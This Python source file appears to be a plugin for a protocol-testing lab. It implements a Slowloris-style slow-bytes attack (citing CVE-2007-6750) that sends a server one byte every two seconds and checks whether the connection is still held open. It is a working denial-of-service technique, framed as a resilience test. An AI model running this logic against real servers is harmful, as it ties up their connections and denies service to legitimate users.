"""Slow bytes: one now and then."""

import asyncio
from contextlib import suppress

from plytalk.core.hookspecs import hookimpl
from plytalk.core.keys import Role
from plytalk.core.lab.attack import Takeover
from plytalk.core.lab.middle import Middle
from plytalk.core.lab.play import Evidence
from plytalk.core.stack import Stack
from plytalk.core.wire import MESSAGE

LENGTH, BYTES, PAUSE = 200, 6, 2.0


class SlowBytes(Takeover):
    """Sends the server the beginning of a frame, a byte every other second.

    Each byte is a sign of life, and a limit that starts anew with each is none.
    """

    name = "slow-bytes"
    row = "A41"
    reference = "Slowloris, CVE-2007-6750"

    def __init__(self, seed: int = 0) -> None:
        super().__init__(seed)
        self._held = False

    @classmethod
    def applies(cls, stack: Stack) -> bool:
        return stack.handshake.speaks_first is not None

    async def take(self, middle: Middle) -> None:
        over = asyncio.Event()
        middle.streams[Role.RESPONDER].deliver_to(lambda data: None, lambda error: over.set())
        left = middle.encode(MESSAGE, bytes(LENGTH))
        while not over.is_set() and len(left) > LENGTH - BYTES:
            middle.send_raw(Role.RESPONDER, left[:1])
            left = left[1:]
            with suppress(TimeoutError):
                async with asyncio.timeout(PAUSE):
                    await over.wait()
        self._held = not over.is_set()
        middle.log(f"sent single bytes, and the server {'still listens' if self._held else 'hung up'}")
        middle.cut()

    def succeeded(self, evidence: Evidence) -> bool:
        return self._held


@hookimpl
def layers() -> list[type[SlowBytes]]:
    return [SlowBytes]
